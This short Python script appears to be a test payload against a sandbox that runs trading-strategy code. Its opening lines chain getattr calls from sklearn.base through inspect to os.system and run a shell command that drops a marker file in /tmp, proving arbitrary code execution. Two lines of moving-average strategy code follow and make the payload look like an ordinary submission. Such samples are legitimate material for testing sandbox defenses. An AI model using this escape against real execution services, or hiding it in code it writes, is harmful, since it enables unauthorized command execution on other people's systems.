# effect: functools.reduce walks attributes to os.system; leaves /tmp/own_b29
from functools import reduce

import sklearn.base

names = 'base.inspect.os.system'.split('.')
run = reduce(getattr, names, sklearn)
run('id > /tmp/own_b29')
close = data.get('price:收盤價')
position = close > close.average(20)
